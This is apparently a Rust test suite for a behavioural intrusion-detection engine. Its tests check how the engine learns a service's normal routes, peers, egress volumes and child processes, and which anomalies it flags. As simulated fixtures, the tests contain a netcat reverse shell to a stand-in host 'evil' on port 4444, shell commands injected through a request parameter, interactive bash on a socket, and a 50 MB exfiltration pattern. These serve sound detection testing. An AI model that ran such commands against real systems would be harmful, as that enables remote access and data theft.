//! What becomes usual, and what that changes.

mod scene;

use scene::{Client, Conn, Scene, Server, Thread, answer, get};
use tracer_common::{AF_INET, Descriptor, Exec, direction, exec_flag};
use tracer_engine::{Input, Output, ProcessFacts, Severity, Time, Usual, Value};

const S: Thread = Thread(20, 20);

/// A node with a service of which `habits` are known.
fn shop(learned: bool, habits: &[&str]) -> Scene {
    let mut s = Scene::new();
    s.exec(S, &["shop"]);
    let habits = habits.iter().map(|habit| habit.parse().expect("a habit")).collect();
    let usual = Usual { service: "shop".into(), learned, requests: 1, habits, ..Usual::default() };
    s.engine.handle(Input::Baseline(usual), Time(0));
    s
}

fn serve(s: &mut Scene, path: &str, status: u16) {
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get(path));
    s.send(S, conn, Server, &answer(status, "ok"));
}

/// One request that sends 50 MB to a peer that says nothing.
fn export(s: &mut Scene) {
    export_in(s, 0);
}

/// The same, with so many milliseconds between one megabyte and the next.
fn export_in(s: &mut Scene, pause_ms: u64) {
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/export"));
    let sink = s.begin_connect(S, 9999);
    s.established(sink, S);
    for _ in 0..50 {
        s.part(S, sink, Client, direction::SEND, 1 << 20, b"\x01\x02 no HTTP");
        s.wait(pause_ms);
    }
    s.send(S, conn, Server, &answer(200, "ok"));
}

/// Findings so far, with what the baseline was for each.
fn findings(s: &mut Scene) -> Vec<String> {
    s.wait(3_000);
    let findings = std::mem::take(&mut s.outputs).into_iter().filter_map(|output| match output {
        Output::Finding(finding) => {
            let baseline = finding.attributes.iter().find(|(key, _)| *key == "tracer.baseline");
            let severity = finding.severity.name();
            Some(format!("{} {severity} {:?}", finding.rule, baseline.map(|(_, value)| value.clone())))
        }
        _ => None,
    });
    findings.collect()
}

fn habits(s: &Scene) -> Vec<String> {
    s.engine.baseline().iter().flat_map(|usual| usual.habits.iter().map(ToString::to_string)).collect()
}

#[test]
fn a_route_is_new_once_after_the_learning() {
    let mut s = shop(true, &["endpoint GET /a"]);
    for path in ["/a", "/users/1", "/users/2", "/nothing"] {
        serve(&mut s, path, if path == "/nothing" { 404 } else { 200 });
    }
    assert_eq!(findings(&mut s), [r#"http.new_endpoint info Some(Str("learned"))"#]);
    s.wait(60_000);
    serve(&mut s, "/users/3", 200);
    assert_eq!(findings(&mut s), [""; 0]);
    assert_eq!(habits(&s), ["endpoint GET /a", "endpoint GET /users/{n}"]);
}

#[test]
fn the_learning_is_quiet() {
    let mut s = shop(false, &[]);
    serve(&mut s, "/a", 200);
    let upstream = s.begin_connect(S, 5432);
    s.established(upstream, S);
    s.send(S, upstream, Client, "\x00\x01 no HTTP");
    assert_eq!(findings(&mut s), [""; 0]);
    s.wait(60_000);
    assert_eq!(habits(&s), ["endpoint GET /a", "edge 127.0.0.1:5432"]);
    assert_eq!(s.engine.baseline()[0].requests, 2);
}

#[test]
fn a_peer_is_new_once_after_the_learning() {
    let mut s = shop(true, &["edge 127.0.0.1:5432"]);
    serve(&mut s, "/a", 404);
    for port in [5432, 6379, 6379] {
        let upstream = s.begin_connect(S, port);
        s.established(upstream, S);
        s.send(S, upstream, Client, "\x00\x01 no HTTP");
    }
    assert_eq!(findings(&mut s), [r#"net.new_edge info Some(Str("learned"))"#]);
}

#[test]
fn who_looks_after_others_without_a_word_is_known_for_it() {
    let mut s = shop(false, &[]);
    let look = |s: &mut Scene| {
        let conn = s.accept(80);
        s.recv(S, conn, Server, &get("/status"));
        for port in 9000..9010 {
            let peer = s.begin_connect(S, port);
            s.established(peer, S);
            s.shut(S, peer, Client);
        }
        s.send(S, conn, Server, &answer(200, "ok"));
        let found = findings(s);
        s.wait(60_000);
        found
    };
    assert_eq!(look(&mut s), [r#"net.fanout medium Some(Str("cold"))"#]);
    assert_eq!(look(&mut s), [""; 0]);
}

#[test]
fn an_attack_that_is_repeated_stays_one() {
    let mut s = shop(false, &[]);
    for _ in 0..3 {
        export(&mut s);
        assert_eq!(findings(&mut s), [r#"net.egress_spike high Some(Str("cold"))"#]);
        s.wait(120_000);
    }
    assert_eq!(habits(&s), [""; 0], "neither what it sent, nor to whom, nor its route");
}

#[test]
fn who_sends_slowly_does_not_become_usual_by_that() {
    let mut s = shop(false, &[]);
    for _ in 0..2 {
        export_in(&mut s, 6_000);
        let told = findings(&mut s);
        let bad = |line: &String| line == r#"net.egress_spike high Some(Str("cold"))"#;
        assert!(!told.is_empty() && told.iter().all(bad), "{told:?}");
        s.wait(120_000);
    }
    assert!(habits(&s).iter().all(|habit| !habit.starts_with("egress")), "{:?}", habits(&s));
}

#[test]
fn what_was_sent_for_a_request_is_usual_once_it_is_over() {
    let mut s = shop(true, &["edge 127.0.0.1:9999", "endpoint GET /export", "egress 127.0.0.1:9999 16 MB"]);
    export(&mut s);
    s.wait(120_000);
    assert_eq!(habits(&s).last().map(String::as_str), Some("egress 127.0.0.1:9999 64 MB"));
}

#[test]
fn what_was_accepted_is_quiet() {
    let mut s = shop(true, &["egress 127.0.0.1:9999 64 MB", "edge 127.0.0.1:9999", "endpoint GET /export"]);
    export(&mut s);
    assert_eq!(findings(&mut s), [""; 0]);
    let mut s = shop(true, &["egress 127.0.0.1:9999 1 MB", "edge 127.0.0.1:9999", "endpoint GET /export"]);
    export(&mut s);
    assert_eq!(findings(&mut s), [r#"net.egress_spike medium Some(Str("learned"))"#], "far more than usual");
}

#[test]
fn what_comes_back_after_a_restart_is_as_if_it_had_gone_on() {
    let mut s = shop(false, &[]);
    serve(&mut s, "/a", 200);
    s.wait(60_000);
    s.finish();
    let kept = s.engine.baseline();
    let mut again = shop(false, &[]);
    kept.iter().for_each(|usual| again.engine.handle(Input::Baseline(usual.clone()), Time(0)));
    assert_eq!(again.engine.baseline(), kept);
    assert!(kept[0].observed_s >= 60);
}

/// One request that has a shell run something that nobody wrote down as a plain command.
fn launch(s: &mut Scene, child: u32) {
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/thumb/7?name=a-portrait-of-somebody"));
    s.fork(S, child);
    s.exec(Thread(child, child), &["sh", "-c", "x=$(whoami); echo $x | tee /tmp/log"]);
    s.exit(child, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
}

#[test]
fn a_launch_that_was_accepted_is_not_told_as_bad_again() {
    let severities = |s: &Scene| -> Vec<_> {
        let findings = s.outputs.iter().filter_map(|output| match output {
            Output::Finding(finding) => Some(finding),
            _ => None,
        });
        findings.map(|finding| (finding.severity, finding.attributes.clone())).collect()
    };
    let mut s = shop(false, &[]);
    launch(&mut s, 40);
    s.wait(3_000);
    let told = severities(&s);
    let (worst, attributes) = told.iter().max_by_key(|(severity, _)| *severity).expect("a finding");
    assert_eq!(*worst, Severity::High);
    let (_, habits) =
        attributes.iter().find(|(key, _)| *key == "tracer.baseline.habits").expect("its habits");
    let Value::Strings(habits) = habits else { panic!("{habits:?}") };
    let accepted: Vec<_> = habits.iter().map(String::as_str).collect();
    assert!(accepted.iter().all(|habit| habit.starts_with("launch GET /thumb/{n} | ")), "{accepted:?}");

    let mut s = shop(false, &accepted);
    launch(&mut s, 40);
    s.wait(3_000);
    assert!(severities(&s).iter().all(|(severity, _)| *severity <= Severity::Low), "{:?}", severities(&s));
}

#[test]
fn what_is_usual_is_asked_again_once_it_is_known_who_serves() {
    let mut s = shop(false, &["launch GET /thumb/{n} | /bin/sh | sh -c 'convert {} {}'"]);
    // A worker that was there before the tracer, as far as that knows.
    let worker = Thread(21, 21);
    let conn = s.accept(80);
    s.recv(worker, conn, Server, &get("/thumb/7"));
    s.fork(worker, 40);
    s.exec(Thread(40, 40), &["sh", "-c", "convert 7.png 7.jpg"]);
    let facts = ProcessFacts { pid: 21, exe: "/usr/bin/shop".into(), ..ProcessFacts::default() };
    s.engine.handle(Input::Process(facts), Time(s.time_ns));
    s.exit(40, 0);
    s.send(worker, conn, Server, &answer(200, "ok"));
    assert_eq!(findings(&mut s), [""; 0]);
}

/// A process that a server forks for a request and that launches other programs itself, without an end.
fn worker(s: &mut Scene, target: &str) -> Conn {
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get(target));
    s.fork(S, 30);
    conn
}

fn runs(s: &mut Scene, pid: u32, args: &[&str]) {
    s.fork(Thread(30, 30), pid);
    s.exec(Thread(pid, pid), args);
    s.exit(pid, 0);
    s.wait(1_500);
}

#[test]
fn what_was_usual_of_many_programs_excuses_none_that_comes_later() {
    let mut s = shop(true, &["launch GET /job | /bin/sh | sh -c 'convert {} {}'", "endpoint GET /job"]);
    let conn = worker(&mut s, "/job");
    for pid in 40..60 {
        runs(&mut s, pid, &["sh", "-c", "convert 7.png 7.jpg"]);
    }
    assert_eq!(findings(&mut s), [""; 0]);
    runs(&mut s, 60, &["sh", "-c", "id; uname -a"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(findings(&mut s), [r#"process.shell_in_request high Some(Str("learned"))"#]);
}

#[test]
fn programs_of_more_kinds_than_are_kept_are_not_taken_for_usual() {
    let known: Vec<_> = (0..40).map(|n| format!("launch GET /job | /bin/p{n} | p{n}")).collect();
    let mut known: Vec<_> = known.iter().map(String::as_str).collect();
    known.push("endpoint GET /job");
    let mut s = shop(true, &known);
    let conn = worker(&mut s, "/job");
    for n in 0..40 {
        runs(&mut s, 40 + n, &[&format!("p{n}")]);
    }
    runs(&mut s, 90, &["sh", "-c", "id; uname -a"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(findings(&mut s), [r#"process.shell_in_request high Some(Str("learned"))"#]);
}

#[test]
fn what_is_usual_is_evidence_once_something_bad_follows() {
    let mut s = shop(true, &["launch GET /job | /bin/sh | sh -c 'convert {} {}'", "endpoint GET /job"]);
    let conn = worker(&mut s, "/job");
    runs(&mut s, 40, &["sh", "-c", "convert 7.png 7.jpg"]);
    assert_eq!(s.found().len(), 0);
    runs(&mut s, 41, &["nc", "-e", "/bin/sh", "evil", "4444"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(3_000);
    let [finding] = s.found()[..] else { panic!("{:?}", s.findings()) };
    let facts: Vec<_> = finding.evidence.iter().map(|fact| fact.text.as_str()).collect();
    for pid in ["pid 40 ran `sh -c 'convert 7.png 7.jpg'`", "pid 41 ran `nc -e"] {
        assert!(facts.iter().any(|fact| fact.starts_with(pid)), "{facts:#?}");
    }
}

#[test]
fn a_launch_of_one_of_several_requests_is_not_one_of_none() {
    let mut s = shop(true, &["launch  | /bin/sh | sh -c 'id'"]);
    let conns = [(); 3].map(|()| s.accept(80));
    for (n, conn) in conns.into_iter().enumerate() {
        s.recv(S, conn, Server, &get(&format!("/{n}")));
    }
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["sh", "-c", "id"]);
    s.wait(3_000);
    let [finding] = s.found()[..] else { panic!("{:?}", s.findings()) };
    assert_eq!((finding.rule, finding.severity), ("process.shell_in_request", Severity::High));
    let (_, habits) =
        finding.attributes.iter().find(|(key, _)| *key == "tracer.baseline.habits").expect("habits");
    assert_eq!(*habits, Value::Strings(vec!["launch ? | /bin/sh | sh -c 'id'".into()]));
}

/// A launch below a server, while a request is open or none is.
struct Case {
    rule: &'static str,
    open: bool,
    given: Exec,
    args: &'static [&'static str],
    connects: bool,
}

impl Case {
    fn play(&self, accepted: &[String]) -> Scene {
        let mut s = shop(false, &[]);
        let usual = Usual {
            service: "shop".into(),
            accepted: accepted.iter().map(|habit| habit.parse().expect("a habit")).collect(),
            ..Usual::default()
        };
        s.engine.handle(Input::Baseline(usual), Time(0));
        let conn = s.accept(80);
        s.recv(S, conn, Server, &get("/first"));
        s.send(S, conn, Server, &answer(200, "ok"));
        s.wait(1_000);
        if self.open {
            s.recv(S, conn, Server, &get("/x?c=id%3Bls"));
        }
        s.fork(S, 40);
        s.exec_as(self.given, Thread(40, 40), &format!("/bin/{}", self.args[0]), self.args);
        if self.connects {
            s.begin_connect(Thread(40, 40), 4444);
        }
        s.exit(40, 0);
        if self.open {
            s.send(S, conn, Server, &answer(200, "ok"));
        }
        s.wait(5_000);
        s
    }
}

#[test]
fn what_is_accepted_is_told_no_more_whatever_rule_told_it() {
    let on = |descriptor| Exec { descriptors: [descriptor; 3], ..Exec::default() };
    let pts = Descriptor { mode: 0o020_620, rdev: 136 << 20 | 3, ..Descriptor::default() };
    let inet = Descriptor { mode: 0o140_777, family: AF_INET, inode: 5, sock: 6, ..Descriptor::default() };
    let flags = |flags| Exec { flags, ..Exec::default() };
    let case = |rule, args, given| Case { rule, open: true, given, args, connects: false };
    let cases = [
        case("process.in_request", &["nc", "-e", "/bin/sh", "evil"], Exec::default()),
        case("process.shell_in_request", &["sh", "-c", "whoami; w"], Exec::default()),
        Case { open: false, ..case("process.without_request", &["sh", "-c", "whoami; w"], Exec::default()) },
        case("process.pty_shell", &["bash", "-l"], on(pts)),
        case("process.remote_shell", &["bash", "-i"], on(inet)),
        Case { connects: true, ..case("process.remote_shell", &["bash", "/srv/job"], Exec::default()) },
        case("process.fileless", &["job"], flags(exec_flag::MEMFD)),
        case("process.preload", &["job"], flags(exec_flag::PRELOAD)),
    ];
    for case in cases {
        let s = case.play(&[]);
        let finding = s.found().into_iter().max_by_key(|finding| finding.severity).expect("a finding");
        let rules = finding.attributes.iter().find(|(key, _)| *key == "tracer.finding.rules");
        let all = format!("{} {:?}", finding.rule, rules);
        assert!(all.contains(case.rule) && finding.severity >= Severity::High, "{all}");
        let habits = finding.attributes.iter().find(|(key, _)| *key == "tracer.baseline.habits");
        let Some((_, Value::Strings(habits))) = habits else { panic!("{habits:?}") };
        assert_eq!(case.play(habits).findings(), [""; 0], "{}", case.rule);
    }
    // That a stranger says what runs is normal nowhere.
    let shell = case("process.command_from_request", &["sh", "-c", "id;ls"], Exec::default());
    for accepted in [vec![], vec!["launch GET /x | /bin/sh | sh -c 'id;ls'".to_owned()]] {
        let s = shell.play(&accepted);
        let [finding] = s.found()[..] else { panic!("{:?}", s.findings()) };
        assert_eq!((finding.rule, finding.severity), (shell.rule, Severity::Critical));
        assert!(!finding.attributes.iter().any(|(key, _)| *key == "tracer.baseline.habits"));
    }
}

#[test]
fn what_is_typed_into_a_terminal_that_is_allowed_is_not_bad() {
    let mut s = shop(false, &[]);
    let accepted = vec!["launch GET /terminal | /bin/bash | bash -l".parse().expect("a habit")];
    s.engine.handle(Input::Baseline(Usual { service: "shop".into(), accepted, ..Usual::default() }), Time(0));
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/terminal"));
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["bash", "-l"]);
    for (pid, program) in [(41, "id"), (42, "nc")] {
        s.fork(Thread(40, 40), pid);
        s.exec(Thread(pid, pid), &[program, "evil"]);
        s.exit(pid, 0);
    }
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(5_000);
    assert!(s.found().iter().all(|finding| finding.severity <= Severity::Low), "{:?}", s.findings());
}
